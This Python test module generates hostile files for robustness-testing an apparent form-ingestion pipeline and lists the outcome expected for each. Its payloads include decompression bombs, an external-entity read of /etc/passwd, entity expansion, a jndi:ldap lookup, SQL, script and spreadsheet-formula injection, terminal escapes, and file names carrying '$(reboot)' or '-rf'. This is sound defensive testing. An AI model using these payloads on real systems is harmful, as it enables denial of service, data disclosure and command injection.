"""A folder of files that no honest sender makes, each named after its quirk, and what must become of each.

`python -m tests.make_hostile FOLDER` writes it. Nothing big is kept here: every file is made by a line or two of code.
"""

import io
import random
import zipfile
from collections.abc import Callable
from typing import NamedTuple

from tests import hostile_pdfs as pdf
from tests.hostile_pdfs import Rows
from tests.hostile_texts import BLANKS, html_form, in_columns, labelled, markdown_form, tabbed

LEADS = ("Porto", "Turin", "Graz", "Malaga", "Bilbao", "Rennes", "Ghent", "Bonn", "Aarhus", "Tartu", "Gdynia", "Patras")
PARTNERS = ("Qingdao", "Shenyang", "Kunming", "Xiamen", "Suzhou", "Nantong", "Wuhan", "Guiyang", "Zhuhai", "Weinan")
GIB = 2**30

PUBLISHED, SUPERSEDED, NO_ROW = "published", "superseded", "no row"


class Case(NamedTuple):
    """A hostile file: its name in the folder, what makes its bytes of a form's rows, and what must become of it.

    `expected` is `published`, or the codes of the reasons for which it may be quarantined. `is_slow` marks what takes the time
    limit or gigabytes.
    """

    name: str | bytes
    make: Callable[[Rows], bytes]
    expected: str
    is_slow: bool = False


def make_rows(number: int) -> Rows:
    """Return the rows of a good form, its pair of cities another one for each number."""
    lead, partner = LEADS[number % len(LEADS)], PARTNERS[number // len(LEADS)]
    return (
        ("City:", f"{lead}\t{partner}"),
        ("Country:", "Portugal\tChina"),
        ("Population:", "240 000\t9.2 million"),
        ("Area:", "41 km2\t11 282 km2"),
        ("Period of cooperation:", "May 2017 - December 2018"),
        ("Cooperation themes:", "Water"),
        ("Key focus of the cooperation themes:", "Clean rivers in both cities."),
        ("Key challenges of the cooperation themes:", "Floods after heavy rain."),
        ("Main objectives of cooperation:", "To learn from each other."),
        ("Main activities:", f"* May 2017: {lead} and {partner} met at a workshop."),
        ("Expected results:", "* A joint plan for the river banks."),
        ("Contact:", "water@example.org"),
    )


def _text(make: Callable[[Rows], str], encoding: str = "utf-8") -> Callable[[Rows], bytes]:
    return lambda rows: make(rows).encode(encoding)


def _changed(**changed: str) -> Callable[[Rows], bytes]:
    return lambda rows: tabbed(rows, **changed).encode()


def _drawn(content: bytes) -> Callable[[Rows], bytes]:
    return lambda rows: pdf.good_pdf(rows, content)


def _paged(old: bytes, new: bytes) -> Callable[[Rows], bytes]:
    assert old in pdf.PAGE
    return lambda rows: pdf.good_pdf(rows, changed={3: pdf.PAGE.replace(old, new)})


def _random(size: int) -> bytes:
    return random.Random(20).randbytes(size)


def _zip(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), "City: Porto")
    return out.getvalue()


PDFS = (
    Case(
        "bomb of 1 GiB in a page.pdf",
        lambda rows: pdf.good_pdf(rows, changed={4: pdf.stream(pdf.deflate_zeros(GIB), b"/Filter /FlateDecode")}),
        "out_of_memory timeout",
        True,
    ),
    Case(
        "bomb packed twice.pdf",
        lambda rows: pdf.good_pdf(
            rows, changed={4: pdf.stream(_pack(pdf.deflate_zeros(2 * GIB)), b"/Filter [/FlateDecode /FlateDecode]")}
        ),
        "out_of_memory timeout",
        True,
    ),
    Case(
        "bomb in a font.pdf",
        lambda rows: pdf.bomb_font(rows, pdf.deflate_zeros(2 * GIB)),
        "out_of_memory timeout no_text_layer",
        True,
    ),
    Case("bomb attached.pdf", lambda rows: pdf.attach(rows, pdf.deflate_zeros(2 * GIB)), PUBLISHED),
    Case(
        "page tree that refers to itself.pdf",
        lambda rows: pdf.good_pdf(rows, changed={2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"}),
        "damaged",
    ),
    Case(
        "page tree with a loop beside the page.pdf",
        lambda rows: pdf.good_pdf(rows, changed={2: b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>"}),
        PUBLISHED,
    ),
    Case("page tree 100000 deep.pdf", lambda rows: pdf.deep_tree(100_000), "damaged"),
    Case("pages 4000.pdf", lambda rows: pdf.many_pages(4000), "too_large"),
    Case("pages 61.pdf", lambda rows: pdf.many_pages(61), "too_large"),
    Case(
        "pages counted wrong.pdf",
        lambda rows: pdf.good_pdf(rows, changed={2: pdf.TREE.replace(b"/Count 1", b"/Count 999999999")}),
        PUBLISHED,
    ),
    Case("no pages.pdf", lambda rows: pdf.good_pdf(rows, changed={2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "damaged"),
    Case(
        "arrays 100000 deep.pdf",
        lambda rows: pdf.good_pdf(
            rows, changed={3: pdf.PAGE.replace(b"/Contents", b"/Extra " + b"[" * 100_000 + b"]" * 100_000 + b" /Contents")}
        ),
        "published damaged",
    ),
    Case(
        "dictionaries 100000 deep.pdf",
        lambda rows: pdf.good_pdf(
            rows,
            changed={
                3: pdf.PAGE.replace(b"/Contents", b"/Extra " + b"<</A " * 100_000 + b"1" + b">>" * 100_000 + b" /Contents")
            },
        ),
        "published damaged",
    ),
    Case("arrays 100000 deep in a page's content.pdf", _drawn(b"[" * 100_000), "published damaged"),
    Case(
        "length refers to itself.pdf",
        lambda rows: pdf.good_pdf(rows, changed={4: pdf.stream(pdf.show(rows), length=b"4 0 R")}),
        "published damaged",
    ),
    Case(
        "length of a terabyte.pdf",
        lambda rows: pdf.good_pdf(rows, changed={4: pdf.stream(pdf.show(rows), length=b"1099511627776")}),
        "published damaged",
    ),
    Case(
        "length negative.pdf",
        lambda rows: pdf.good_pdf(rows, changed={4: pdf.stream(pdf.show(rows), length=b"-1")}),
        "published damaged no_text_layer",
    ),
    Case("xref names itself.pdf", pdf.xref_loop, PUBLISHED),
    Case("xref stream of 4 GiB.pdf", lambda rows: pdf.xref_bomb(), "damaged"),
    Case("object stream holds itself.pdf", pdf.object_stream_loop, "damaged"),
    Case("object refers to itself.pdf", lambda rows: pdf.good_pdf(rows, changed={2: b"2 0 R"}), "damaged"),
    Case(
        "drawing that draws itself.pdf",
        lambda rows: pdf.good_pdf(
            rows,
            b"/X Do",
            {
                3: pdf.PAGE.replace(b"/Font <<", b"/XObject << /X 10 0 R >> /Font <<"),
                10: pdf.stream(
                    b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R >> >>"
                ),
            },
        ),
        "published damaged",
    ),
    Case("drawings 2 to the 40.pdf", lambda rows: pdf.nested_forms(rows, 40, 2), "timeout", True),
    Case("drawings 5000 deep.pdf", lambda rows: pdf.nested_forms(rows, 5000, 1), "published damaged"),
    Case(
        "glyphs 2000000.pdf",
        _drawn(b"BT /F1 1 Tf 1 0 0 1 50 20 Tm " + b"(xxxxxxxxx ) Tj " * 200_000 + b"ET"),
        "timeout out_of_memory",
        True,
    ),
    Case("glyphs on one point.pdf", _drawn(b"BT /F1 10 Tf " + b"1 0 0 1 50 100 Tm (a) Tj " * 20_000 + b"ET"), PUBLISHED),
    Case(
        "lines 1000000.pdf",
        _drawn(b"".join(b"%d 9 m %d 99 l S " % (n % 500, n % 400) for n in range(10_000)) * 100),
        "timeout out_of_memory",
        True,
    ),
    Case("rectangles 20000.pdf", _drawn(b"".join(b"%d %d 9 9 re f " % (n % 500, n % 700) for n in range(20_000))), PUBLISHED),
    Case("one path of 200000 points.pdf", _drawn(b"0 0 m " + b"1 2 l 3 4 l " * 100_000 + b"S"), PUBLISHED),
    Case("states saved 100000 times.pdf", _drawn(b"q " * 100_000), PUBLISHED),
    Case("media box huge.pdf", _paged(b"[0 0 595 842]", b"[-1e30 -1e30 1e30 1e30]"), "published damaged"),
    Case("media box of nothing.pdf", _paged(b"[0 0 595 842]", b"[0 0 0 0]"), "published damaged no_text_layer not_a_ucap"),
    Case("media box of names.pdf", _paged(b"[0 0 595 842]", b"[/A (b) null true]"), "published damaged"),
    Case("media box upside down.pdf", _paged(b"[0 0 595 842]", b"[595 842 0 0]"), PUBLISHED),
    Case("page turned by 45 degrees.pdf", _paged(b"/MediaBox", b"/Rotate 45 /MediaBox"), "published damaged"),
    Case(
        "coordinates beyond numbers.pdf",
        _drawn(b"BT /F1 10 Tf " + b"9" * 400 + b" 0 0 1 " + b"9" * 400 + b" 0 Tm (far) Tj 1e999 nan Td (off) Tj ET"),
        PUBLISHED,
    ),
    Case("numbers of 100000 digits.pdf", _drawn(b"9" * 100_000 + b" 0 0 1 0 0 cm"), "published damaged"),
    Case("font without characters.pdf", pdf.codes_without_characters, "no_text_layer"),
    Case("font that is missing.pdf", lambda rows: pdf.good_pdf(rows, changed={5: b"null"}), "published damaged no_text_layer"),
    Case("script, launch and beacon.pdf", pdf.act, PUBLISHED),
    Case("encrypted for a user.pdf", lambda rows: pdf.encrypt_pdf(rows, "secret", "owner"), "encrypted"),
    Case(
        "encrypted by an unknown handler.pdf",
        lambda rows: pdf.good_pdf(rows, trailer=b"/Encrypt << /Filter /Acme /V 9 >> /ID [<00> <00>]"),
        "encrypted",
    ),
    Case("encrypted for an owner only.pdf", lambda rows: pdf.encrypt_pdf(rows, "", "owner"), PUBLISHED),
    Case("scanned.pdf", lambda rows: pdf.scan_pdf(), "no_text_layer"),
    Case(
        "blank.pdf", lambda rows: pdf.write_pdf({1: pdf.CATALOG, 2: pdf.TREE, 3: pdf.PAGE, 4: pdf.stream(b"")}), "no_text_layer"
    ),
    Case("truncated.pdf", lambda rows: pdf.good_pdf(rows)[:900], "published damaged no_text_layer not_a_ucap"),
    Case("header and nothing else.pdf", lambda rows: b"%PDF-1.7\n", "damaged"),
    Case("random bytes after the header.pdf", lambda rows: b"%PDF-1.4\n" + _random(1_000_000), "damaged"),
    Case("random bytes, 20 MB of them.pdf", lambda rows: b"%PDF-1.4\n" + _random(20_000_000), "damaged timeout", True),
    Case("object headers without end.pdf", lambda rows: b"%PDF-1.4\n" + b"1 0 obj\n<<\n" * 500_000, "damaged timeout"),
    Case("bytes before the header.pdf", lambda rows: pdf.write_pdf(pdf.good_objects(rows), junk=b"\0junk\n" * 50), PUBLISHED),
    Case("warnings 90000.pdf", _drawn(b"/Nope gs 1 2 3 4 5 6 7 scn " * 45_000), PUBLISHED),
    Case(
        "map of characters without end.pdf",
        lambda rows: pdf.endless_character_map(rows),
        "published timeout out_of_memory",
        True,
    ),
)


def _pack(data: bytes) -> bytes:
    import zlib

    return zlib.compress(data)


TEXTS = (
    Case("line of 60 MB.txt", lambda rows: b"City: Porto " * 5_000_000, "too_large", True),
    Case("line of 45 MB.txt", lambda rows: b"City: Porto " * 3_750_000, "not_a_ucap", True),
    Case("words, 20 MB of them.txt", lambda rows: b"The river rises after rain in spring.\n" * 520_000, "not_a_ucap", True),
    Case(
        "form before 20 MB of words.txt",
        lambda rows: tabbed(rows).encode() + b"The river rises after rain in spring.\n" * 520_000,
        "published timeout out_of_memory",
        True,
    ),
    Case("blanks 200000 in a value.txt", _changed(objectives=f"To learn{BLANKS}from each other."), PUBLISHED),
    Case("blanks 200000 in a label.txt", _text(lambda rows: tabbed([*rows, (f"Budget{BLANKS}of it:", "5 euro")])), PUBLISHED),
    Case("blanks 200000 before a label.txt", _text(lambda rows: tabbed(rows) + BLANKS + "Budget: 5 euro\n"), PUBLISHED),
    Case("blanks 200000 in a period.txt", _changed(period=f"May{BLANKS}2017 -{BLANKS}December 2018"), PUBLISHED),
    Case(
        "blanks 200000 in an activity's date.txt",
        _changed(activities=f"* 12{BLANKS}to{BLANKS}14{BLANKS}May 2017{BLANKS}: They met."),
        PUBLISHED,
    ),
    Case("blanks 200000 in a number.txt", _changed(population=f"240{BLANKS}000\t9.2{BLANKS}million{BLANKS}(2016"), PUBLISHED),
    Case("blanks 200000 in cities.txt", _changed(city=f"Porto{BLANKS}\tQing{BLANKS}dao"), PUBLISHED),
    Case("blanks 200000 in themes.txt", _changed(themes=f"Water{BLANKS}Air{BLANKS}and{BLANKS}Soil{BLANKS};"), PUBLISHED),
    Case(
        "blanks 200000 in a contact.txt",
        _changed(contact=f"water{BLANKS}@{BLANKS}example{BLANKS}.org contact {BLANKS}:"),
        PUBLISHED,
    ),
    Case("blanks 200000 between columns.txt", _text(lambda rows: in_columns(rows).replace("km2", BLANKS)), PUBLISHED),
    Case(
        "blanks 200000 in Markdown.md",
        _text(lambda rows: markdown_form(rows, activities=f"**{BLANKS}x [y]({BLANKS} _z{BLANKS}<br{BLANKS}>")),
        PUBLISHED,
    ),
    Case(
        "blanks 200000 in HTML.html",
        _text(
            lambda rows: html_form(rows, activities=f"<p{BLANKS}class{BLANKS}=x> May{BLANKS}2017 <br{BLANKS}> &nbsp{BLANKS};")
        ),
        PUBLISHED,
    ),
    Case("blanks 200000 that do not break.txt", _changed(objectives="To\xa0" + "\xa0\u2003" * 100_000 + "learn."), PUBLISHED),
    Case("line ends 200000.txt", _text(lambda rows: tabbed(rows) + "\n\r\n\f\v" * 40_000), PUBLISHED),
    Case("digits 200000.txt", _changed(population="9" * 200_000 + "\t" + "1." * 100_000), PUBLISHED),
    Case("digits and commas 200000.txt", _changed(area="1,2" * 70_000 + "\t1e999 km2"), PUBLISHED),
    Case("dates 50000.txt", _changed(period="1.1." * 50_000), PUBLISHED),
    Case("dates 20000 in an activity.txt", _changed(activities="* " + "May 2017, " * 20_000), "published timeout"),
    Case("months 50000.txt", _changed(activities="* " + "May - " * 50_000 + "2017: They met."), "published timeout"),
    Case("brackets 100000.txt", _changed(objectives="(" * 100_000 + "[" * 100_000), PUBLISHED),
    Case("at signs 100000.txt", _changed(contact="a@" * 100_000), PUBLISHED),
    Case("dots and letters 100000 in a contact.txt", _changed(contact="a." * 50_000 + "@" + "a-" * 50_000), PUBLISHED),
    Case("quotes and arrows 100000.txt", _changed(activities="→ " * 100_000), PUBLISHED),
    Case(
        "angle brackets 200000.html",
        _text(lambda rows: html_form(rows, activities="<" * 100_000 + "<!--" * 20_000 + "<a " * 20_000)),
        "published not_a_ucap",
    ),
    Case(
        "underscores and stars 100000.md",
        _text(lambda rows: markdown_form(rows, activities="*_" * 50_000 + "**a" * 30_000 + "`" * 20_000)),
        PUBLISHED,
    ),
    Case(
        "square brackets 100000.md",
        _text(lambda rows: markdown_form(rows, activities="[" * 50_000 + "](" * 20_000 + "![a](b" * 10_000)),
        PUBLISHED,
    ),
    Case("backslashes 200000.md", _text(lambda rows: markdown_form(rows, activities="\\" * 200_000)), PUBLISHED),
    Case("word of 1000000 letters.txt", _changed(objectives="x" * 1_000_000), PUBLISHED),
    Case("words of capitals 50000.txt", _changed(objectives="Municipality Of The " * 16_000), "published timeout"),
    Case(
        "bullets 60000.txt",
        _changed(activities="\n".join("\t→ They met in May 2017." for _ in range(60_000))),
        "published timeout out_of_memory",
        True,
    ),
    Case("bullets 60000 without text.txt", _changed(activities="\n".join("\t→ " for _ in range(60_000))), PUBLISHED),
    Case("bullets 60000 in one line.txt", _changed(activities="→ met " * 60_000), "published timeout out_of_memory", True),
    Case(
        "bullets 60000 in columns.txt",
        _text(lambda rows: in_columns(rows) + f"\n{'':<50}• They met." * 60_000),
        "published timeout out_of_memory",
        True,
    ),
    Case("tags 100000 deep.html", _text(lambda rows: "<div>" * 100_000 + html_form(rows)), PUBLISHED),
    Case(
        "lists 100000 deep.html", _text(lambda rows: html_form(rows, activities="<ul><li>" * 50_000 + "They met.")), PUBLISHED
    ),
    Case("tables 50000 deep.html", _text(lambda rows: "<table><tr><td>" * 50_000 + html_form(rows)), PUBLISHED),
    Case(
        "rows 100000.html", _text(lambda rows: html_form([*rows, *[("note", "nothing")] * 100_000])), "published timeout", True
    ),
    Case(
        "rows 100000.md",
        _text(lambda rows: markdown_form([*rows, *[("note", "nothing")] * 100_000])),
        "published timeout",
        True,
    ),
    Case("rows 100000.txt", _text(lambda rows: tabbed([*rows, *[("note", "nothing")] * 100_000])), "published timeout", True),
    Case(
        "rows 100000 of known labels.txt",
        _text(lambda rows: tabbed([*rows, *[("Country:", "Portugal\tChina")] * 100_000])),
        "published timeout",
        True,
    ),
    Case(
        "lines 100000 of labels.txt",
        _text(lambda rows: labelled(rows) + "Key things: nothing\n" * 100_000),
        "published timeout",
        True,
    ),
    Case("columns 100000.txt", _text(lambda rows: tabbed(rows) + "\t".join("x" * 100_000)), PUBLISHED),
    Case("columns 100000.html", _text(lambda rows: html_form(rows, area="\t".join("x" * 100_000))), PUBLISHED),
    Case("columns 100000.md", _text(lambda rows: markdown_form(rows, area="\t".join("x" * 100_000))), PUBLISHED),
    Case(
        "cells that span millions.html",
        _text(lambda rows: html_form(rows).replace("<td>41", "<td rowspan=999999999 colspan=99999999999999999999>41")),
        PUBLISHED,
    ),
    Case(
        "entities that grow.html",
        _text(
            lambda rows: (
                "<!DOCTYPE x [<!ENTITY a '"
                + "ha" * 9
                + "'>"
                + "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 9}'>" for n in range(20))
                + "]>"
                + html_form(rows, activities="&a20; &a9;")
            )
        ),
        PUBLISHED,
    ),
    Case(
        "references 200000.html",
        _text(lambda rows: html_form(rows, activities="&amp;&#x110000;&#99999999999;&nosuch;&#xD800;&#0;" * 30_000)),
        PUBLISHED,
    ),
    Case(
        "external entity.html",
        _text(
            lambda rows: "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>" + html_form(rows, objectives="We &e; learn.")
        ),
        PUBLISHED,
    ),
    Case("comment without end.html", _text(lambda rows: html_form(rows) + "<!-- " * 50_000), PUBLISHED),
    Case("script with a form.html", _text(lambda rows: f"<script>{html_form(rows)}</script>"), "published not_a_ucap"),
    Case("null bytes.txt", lambda rows: tabbed(rows).encode().replace(b"river", b"ri\0ver"), "published unsupported_format"),
    Case("null bytes and nothing else.txt", lambda rows: bytes(100_000), "unsupported_format empty"),
    Case("byte order mark and nothing else.txt", lambda rows: b"\xef\xbb\xbf", "empty"),
    Case("byte order mark of UTF-16 alone.txt", lambda rows: b"\xff\xfe", "empty"),
    Case("UTF-16 without mark.txt", _text(tabbed, "utf-16-le"), PUBLISHED),
    Case("UTF-16 big-endian with mark.txt", _text(lambda rows: "\ufeff" + tabbed(rows), "utf-16-be"), PUBLISHED),
    Case("UTF-16 cut within a character.txt", lambda rows: b"\xff\xfe" + tabbed(rows).encode("utf-16-le")[:-1], PUBLISHED),
    Case("UTF-32.txt", _text(tabbed, "utf-32"), PUBLISHED),
    Case(
        "encodings mixed.txt",
        lambda rows: tabbed(rows, objectives="caf\xe9").encode("latin-1") + "café\n".encode() + b"\xff\xfe\x81\x8d\n",
        PUBLISHED,
    ),
    Case(
        "characters that do not exist.txt",
        lambda rows: tabbed(rows, objectives="learn").encode().replace(b"learn", b"\xed\xa0\x80\xf4\x90\x80\x80\xc0\xaf"),
        PUBLISHED,
    ),
    Case("marks 100000 on one letter.txt", _changed(objectives="e" + "\u0301" * 100_000), PUBLISHED),
    Case("marks 10000 on a label.txt", _text(lambda rows: tabbed([*rows, ("E" + "\u0301" * 10_000, "x")])), PUBLISHED),
    Case("text that turns around.txt", _changed(objectives="\u202eTo learn\u202c \u2066\u200f\u200d\u200b" * 1000), PUBLISHED),
    Case(
        "escape sequences.txt",
        _changed(objectives="To \x1b[2J\x1b]0;owned\x07 learn \x9b31m\x08\x7f.", contact="\x1b[31mwater@example.org"),
        PUBLISHED,
    ),
    Case(
        "script tags and formulas.html",
        _text(
            lambda rows: html_form(
                rows,
                objectives="=cmd|' /C calc'!A0 &lt;script&gt;alert(1)&lt;/script&gt;",
                activities="* May 2017: =HYPERLINK(&quot;http://example.org&quot;) @SUM(1) +1 -1",
                contact="=1+1@example.org",
            )
        ),
        PUBLISHED,
    ),
    Case(
        "script tags and formulas.txt",
        _changed(
            themes="=WEBSERVICE(1)",
            objectives="<script>alert(1)</script><img src=x onerror=alert(1)>",
            activities="* May 2017: {{7*7}} ${jndi:ldap://example.org} '; DROP TABLE ucaps; --",
        ),
        PUBLISHED,
    ),
    Case(
        "numbers beyond all columns.txt",
        _changed(
            population="99999999999999999999999999 million\t1e400",
            area="9" * 400 + " km2\tinf nan",
            period="May 99999 - June 0000",
            activities="* 31.02.2017: They met.\n\t* May 0000: They met.",
        ),
        PUBLISHED,
    ),
    Case("form without cities.txt", _changed(city=" \t "), "not_a_ucap"),
    Case("city of 100000 letters.txt", _changed(city="x" * 100_000 + "\tQingdao"), "published not_a_ucap"),
    Case(
        "cities 20000.txt",
        _changed(city=", ".join(f"City{n}" for n in range(20_000)) + "\tQingdao"),
        "published timeout not_a_ucap",
    ),
    Case("letter.txt", lambda rows: b"Dear colleagues,\n\nthe City: a place to be. See you.\n", "not_a_ucap"),
    Case("source code.txt", lambda rows: b"import os\n\ndef main() -> None:\n    pass\n" * 50, "not_a_ucap"),
    Case("empty.pdf", lambda rows: b"", "empty"),
    Case("white space.txt", lambda rows: b" \t\r\n\f" * 1000, "empty"),
    Case("random bytes.txt", lambda rows: _random(100_000), "unsupported_format"),
)

FORMATS = (
    Case("a PDF called.txt", lambda rows: pdf.good_pdf(rows), PUBLISHED),
    Case("a text called.pdf", lambda rows: tabbed(rows).encode(), PUBLISHED),
    Case("picture called.pdf", lambda rows: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1", "unsupported_format"),
    Case("photograph.jpg", lambda rows: b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"abcdefgh" * 4000, "unsupported_format"),
    Case("animation.gif", lambda rows: b"GIF89a" + b"Text of a picture" * 900, "unsupported_format"),
    Case("Word document.docx", lambda rows: _zip("[Content_Types].xml", "word/document.xml"), "unsupported_format"),
    Case("Word document called.pdf", lambda rows: _zip("word/document.xml"), "unsupported_format"),
    Case("archive of nothing.zip", lambda rows: _zip(), "unsupported_format"),
    Case("old Word document.doc", lambda rows: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"W o r d" * 2000, "unsupported_format"),
    Case("rich text.rtf", lambda rows: b"{\\rtf1\\ansi City:\\tab Porto\\par}", "unsupported_format"),
    Case("PostScript.ps", lambda rows: b"%!PS-Adobe-3.0\n(City: Porto) show\n", "unsupported_format"),
    Case("program.exe", lambda rows: b"MZ\x90\0" + b"This program cannot be run in DOS mode." * 200, "unsupported_format"),
    Case("program", lambda rows: b"\x7fELF\2\1\1" + b"abcdefgh" * 1000, "unsupported_format"),
    Case("packed.gz", lambda rows: b"\x1f\x8b\x08" + b"abcdefgh" * 1000, "unsupported_format"),
    Case("packed.7z", lambda rows: b"7z\xbc\xaf\x27\x1c" + b"abcdefgh" * 1000, "unsupported_format"),
    Case("tables.parquet", lambda rows: b"PAR1" + b"abcdefgh" * 1000 + b"PAR1", "unsupported_format"),
    Case(
        "PDF within a zip.pdf",
        lambda rows: b"PK\x03\x04" + bytes(40) + pdf.good_pdf(rows),
        "unsupported_format published damaged",
    ),
)

NAMES = (
    Case("line\nbreak.txt", _text(tabbed), PUBLISHED),
    Case("quote\"'`$(reboot);.txt", _text(tabbed), PUBLISHED),
    Case("[red]markup[/red] <b>&amp;|*_.txt", _text(tabbed), PUBLISHED),
    Case("\x1b]0;owned\x07\x1b[2J.txt", _text(tabbed), PUBLISHED),
    Case("计划 🏙 plán \u202etxt.fdp", _text(tabbed), PUBLISHED),
    Case("e\u0301 decomposed.txt", _text(tabbed), PUBLISHED),
    Case(b"not UTF-8 \xe9\xff.txt", _text(tabbed), PUBLISHED),
    Case("-rf", _text(tabbed), PUBLISHED),
    Case(" blanks around ", _text(tabbed), PUBLISHED),
    Case("=cmd|' C calc'!A0.csv", _text(tabbed), PUBLISHED),
    Case("%s%n{0}\\n.txt", _text(tabbed), PUBLISHED),
    Case("n" * 255, _text(tabbed), PUBLISHED),
    Case("folder/folder.pdf/" * 3 + "deep.txt", _text(tabbed), PUBLISHED),
    Case(".hidden.txt", _text(tabbed), NO_ROW),
    Case(".hidden/form.txt", _text(tabbed), NO_ROW),
    Case("corrections/form.txt", _text(tabbed), NO_ROW),
)

CASES = (*PDFS, *TEXTS, *FORMATS, *NAMES)
